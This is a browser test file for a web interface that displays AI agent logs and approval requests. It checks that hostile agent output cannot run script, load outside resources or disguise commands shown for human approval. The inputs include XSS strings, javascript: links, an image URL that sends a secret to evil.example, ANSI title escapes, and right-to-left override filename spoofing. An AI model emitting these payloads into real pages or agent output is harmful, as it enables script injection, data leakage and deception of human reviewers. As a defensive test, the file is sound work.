import { expect, ready, test } from './test'

const HOSTILE = [
  'x'.repeat(20_000),
  '<script>document.title = "owned"</script>',
  '<img src=x onerror="document.title = \'owned\'">',
  '![spy](http://evil.example/spy.png?secret=1)',
  '[click](javascript:document.title="owned")',
  '<iframe src="http://evil.example/"></iframe>',
  '\u202egnp.exe\u200b',
  'שלום עולם',
]

test('nothing that an agent prints runs, loads anything or leads astray', async ({
  signedIn: page,
  server,
}) => {
  const foreign: string[] = []
  page.on('request', request => {
    if (new URL(request.url()).origin !== server.url && !request.url().startsWith('data:'))
      foreign.push(request.url())
  })
  const script = HOSTILE.map(line => `printf '%s\\n' '${line.replaceAll("'", "'\\''")}'`).join('\n')
  const ansi = `printf '\\033]0;owned\\007\\033[2J\\033[31mred\\033[0m \\033]8;;http://evil.example\\033\\\\link\\033]8;;\\033\\\\\\n'`
  const title = '<b>bold</b> \u202egnp'
  for (const [harness, prompt] of [
    ['talking', script],
    ['shell', `${script}\n${ansi}`],
  ]) {
    const id = await server.mission({ harness, prompt, title, one_shot: true })
    await expect.poll(async () => (await server.get(id)).state).toBe('done')
    await page.goto(`${server.url}/missions/${id}`)
    await ready(page)
    const log = page.locator('.log')
    await expect(log).toContainText('שלום')
    await page.keyboard.press('o')
    await expect(log).toContainText('<script>')
    expect(await log.locator('script, iframe, img, b:text("bold")').count()).toBe(0)
    expect(await log.locator('a[href^="javascript"]').count()).toBe(0)
    await expect(page).toHaveTitle(/<b>bold<\/b>/)
    const wide = await page.evaluate(
      () => document.documentElement.scrollWidth > document.documentElement.clientWidth,
    )
    expect(wide, 'a long line widens the page').toBe(false)
  }
  expect(await page.locator('.log').textContent()).not.toContain('owned\u0007')
  expect(foreign).toEqual([])
})

test('what is asked is what is read: characters that nobody sees are marked', async ({
  signedIn: page,
  server,
}) => {
  const approval = { id: 'a', tool: 'bash', subject: 'rm \u202etxt.exe\u200b' }
  const prompt = `echo '${JSON.stringify({ approval })}'; read -r line`
  const id = await server.mission({ harness: 'talking', approvals: 'ask', prompt })
  await page.goto(`${server.url}/missions/${id}`)
  await expect(page.getByRole('region', { name: 'The agent asks' })).toContainText(
    'rm ⟨U+202E⟩txt.exe⟨U+200B⟩',
  )
  await server.cancel(id)
})
